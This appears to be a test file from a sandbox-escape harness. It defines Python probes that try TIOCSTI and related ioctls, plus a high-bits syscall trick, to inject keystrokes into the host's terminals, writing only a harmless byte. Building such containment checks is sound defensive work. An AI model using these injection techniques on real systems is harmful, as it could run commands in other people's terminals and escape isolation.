// If this worked: a program would type commands into the terminal of the person who started the server.
import type { Attack } from '../attack.ts';

export const attack: Attack = {
  programs: [
    {
      language: 'python',
      control: 'root',
      // Outside only into a terminal of its own: another one may be somebody's.
      code: (_field, place) => `
import fcntl
TIOCSTI, TIOCLINUX, TIOCCONS, TIOCSETD = 0x5412, 0x541c, 0x541d, 0x5423
def type_into(fd, request=TIOCSTI):
    fcntl.ioctl(fd, request, b'x')
    return 'typed'
inside = '${place}' == 'inside'
for fd in (0, 1, 2) if inside else ():
    attempt(f'descriptor {fd}', lambda: type_into(fd))
for path in ('/dev/tty', '/dev/console', '/dev/tty0', '/dev/tty1', '/dev/ptmx', '/proc/1/fd/0', '/proc/1/fd/1') if inside else ():
    attempt(path, lambda: type_into(os.open(path, os.O_RDWR | os.O_NONBLOCK)))
def own_terminal(request):
    import pty
    master, slave = pty.openpty()
    return type_into(slave, request)
attempt('a terminal of its own', lambda: own_terminal(TIOCSTI))
if inside: attempt('high bits', lambda: in_child(lambda: syscall(16, 0, TIOCSTI | 1 << 32, b'x')))
for request in (TIOCLINUX, TIOCCONS) if inside else ():
    attempt(f'request {request:#x}', lambda: type_into(0, request))
`,
    },
  ],
};
